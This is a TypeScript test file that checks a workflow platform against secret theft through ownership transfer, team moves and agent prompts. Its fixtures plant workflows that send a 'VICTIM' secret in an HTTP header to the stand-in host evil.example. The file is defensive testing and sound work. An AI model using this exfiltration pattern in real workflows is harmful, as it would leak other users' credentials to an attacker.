/**
 * Whoever gives an object away must not read secrets of the new holder, also not by what the new holder does
 * to it without looking for them: fixing a typo, changing a title.
 */
import { afterAll, beforeAll, expect, test } from '@jest/globals';

import { declaredSecrets } from '../../activities/secret-arguments.ts';
import { loadSensitive } from '../../adapters/secrets/sensitive.ts';
import { renderTemplate } from '../../adapters/secrets/templates.ts';
import { resolveSecret } from '../../domain/secrets/service.ts';
import { startTestApp, type Client, type Reply, type TestApp, type TestUser } from '../support/app.ts';
import { httpTask } from '../support/definitions.ts';
import { createdWorkflow } from '../support/marketplace.ts';

let app: TestApp;
let admin: Client;

beforeAll(async () => {
  app = await startTestApp();
  admin = await app.as('admin');
});
afterAll(() => app.close());

interface Person {
  user: TestUser;
  client: Client;
}

function done(reply: Reply): any {
  if (reply.status >= 300) throw new Error(`${reply.status}: ${JSON.stringify(reply.body)}`);
  return reply.body;
}

/** `names`: secrets that the person has, each with the person's name as value. */
async function person(names: string[]): Promise<Person> {
  const user = await app.createUser({ roles: ['builder'] });
  const client = await app.as(user);
  for (const name of names) done(await client.put(`/secrets/${name}`, { value: valueOf(user) }));
  return { user, client };
}
const valueOf = ({ id }: TestUser): string => `secret of ${id}`;
const secretOf = (owner: string, name: string) =>
  resolveSecret(app.orm.em.fork(), app.app.deps.encryption, owner, name);

/** Sends what the expression gives to an address of the giver. */
const sending = (expression: string, more: object[] = []) => ({
  document: { dsl: '1.0.3', namespace: 'default', name: 'w', version: '1.0.0', title: 'Before' },
  use: { secrets: ['VICTIM'] },
  do: [{ send: httpTask('https://evil.example', { headers: { 'X-Key': `\${ ${expression} }` } }) }, ...more],
});

/** What runs of the current revision may read by the names that it declares. */
async function readBy({ client }: Person, id: string): Promise<(string | null)[]> {
  const { definition, runnable } = done(await client.get(`/workflows/${id}`));
  const started = await client.post(`/workflows/${id}/run`);
  expect(started.status).toBe(runnable ? 201 : 422);
  if (!runnable) return [];
  const secrets: string[] = definition.use?.secrets ?? [];
  const read = declaredSecrets(
    { orm: app.orm, secret: (owner, name) => secretOf(owner, name) },
    { run_id: started.body.id, secrets },
  );
  return Promise.all(['VICTIM', ...secrets].map((name) => read(name).catch(() => null)));
}

/** What the new holder does without a thought of secrets. */
async function edited({ client }: Person, id: string): Promise<void> {
  const { definition } = done(await client.get(`/workflows/${id}`));
  const tasks = definition.do.filter((task: Record<string, unknown>) => !('typo' in task));
  const changed = { ...definition, document: { ...definition.document, title: 'After' }, do: tasks };
  done(await client.patch(`/workflows/${id}`, { definition: changed }));
}

/** Names that only a run knows are refused on save; this one is known, but not where it is read. */
const COMPUTED = '$secrets | .VICTIM';
const PLANTED: [what: string, definition: Record<string, unknown>][] = [
  ['a name apart from $secrets', sending(COMPUTED)],
  ['a draft', sending('$secrets.VICTIM', [{ typo: { sett: {} } }])],
  ['a draft that computes the name', sending(COMPUTED, [{ typo: { sett: {} } }])],
];

test.each(PLANTED)('an edit after a transfer binds no secret by its name: %s', async (_, definition) => {
  const [giver, taker] = [await person([]), await person(['VICTIM'])];
  const { id } = await createdWorkflow(giver.client, definition);
  done(await admin.post(`/users/${giver.user.id}/transfer`, { to: taker.user.id }));
  for (let edits = 0; edits < 2; edits += 1) {
    expect(await readBy(taker, id)).not.toContain(valueOf(taker.user));
    await edited(taker, id);
  }
  expect(await readBy(taker, id)).not.toContain(valueOf(taker.user));
});

test.each(PLANTED)(
  'nor of two different secrets with one name that of the new owner: %s',
  async (_, given) => {
    const [giver, taker] = [await person(['VICTIM']), await person(['VICTIM'])];
    const { id } = await createdWorkflow(giver.client, given);
    const moved = await admin.post(`/users/${giver.user.id}/transfer`, { to: taker.user.id });
    if (moved.status === 409) {
      expect(moved.body.code).toBe('secret_names_taken');
      return;
    }
    await edited(taker, id);
    expect(await readBy(taker, id)).not.toContain(valueOf(taker.user));
  },
);

test.each(PLANTED)('nor one of a team by a move: %s', async (what, definition) => {
  const [giver, lead] = [await person([]), await person([])];
  const name = `team ${PLANTED.findIndex(([other]) => other === what)}`.replaceAll(' ', '-');
  const team = done(await admin.post('/teams', { name, admin: lead.user.id })).id;
  done(await lead.client.put(`/secrets/VICTIM?team_id=${team}`, { value: valueOf(lead.user) }));
  const { id } = await createdWorkflow(giver.client, definition);
  // By somebody else than its owner, who may not use the team's secrets.
  done(await admin.patch(`/workflows/${id}`, { team_id: team }));
  await edited(lead, id);
  expect(await readBy(lead, id)).not.toContain(valueOf(lead.user));
});

test('who declares the secret binds it', async () => {
  const [giver, taker] = [await person([]), await person(['VICTIM'])];
  const { id } = await createdWorkflow(giver.client, sending(COMPUTED));
  done(await admin.post(`/users/${giver.user.id}/transfer`, { to: taker.user.id }));
  const { definition } = done(await taker.client.get(`/workflows/${id}`));
  expect(definition.use.secrets).toEqual(['UNBOUND:VICTIM']);
  done(
    await taker.client.patch(`/workflows/${id}`, {
      definition: { ...definition, use: { secrets: ['VICTIM'] } },
    }),
  );
  expect(await readBy(taker, id)).toContain(valueOf(taker.user));
});

test('a mark in a prompt stays what its author wrote, and becomes no secret of the new owner', async () => {
  const [giver, taker] = [await person(['KEY']), await person(['VICTIM'])];
  const prompt = 'Answer in <ANSWER>…</ANSWER>, never say <VICTIM>: ${ .question + " <VICTIM>" }';
  const agent = done(
    await giver.client.post('/agents', {
      name: 'model',
      type: 'llm',
      version: '1.0.0',
      visibility: 'private',
      configuration: { model: 'm', api_key: '<KEY>', system: '<VICTIM> <KEY>', prompt },
      url: 'https://evil.example',
    }),
  );
  done(await admin.post(`/users/${giver.user.id}/transfer`, { to: taker.user.id }));
  const { configuration, missing_references: missing } = done(await taker.client.get(`/agents/${agent.id}`));
  expect(configuration).toMatchObject({ api_key: '<KEY>', system: '<UNBOUND:VICTIM> <KEY>' });
  expect(missing ?? []).toEqual([]);

  const { api_key: key, system, prompt: stored } = configuration;
  const secret = (name: string) => secretOf(taker.user.id, name);
  const sensitive = await loadSensitive([key], secret, [system, stored]);
  expect(sensitive.fill(system)).toBe(`<VICTIM> ${valueOf(giver.user)}`);
  expect(renderTemplate(stored, { question: 'Why?' }, sensitive, 'prompt')).toBe(
    'Answer in <ANSWER>…</ANSWER>, never say <VICTIM>: Why? <VICTIM>',
  );
});
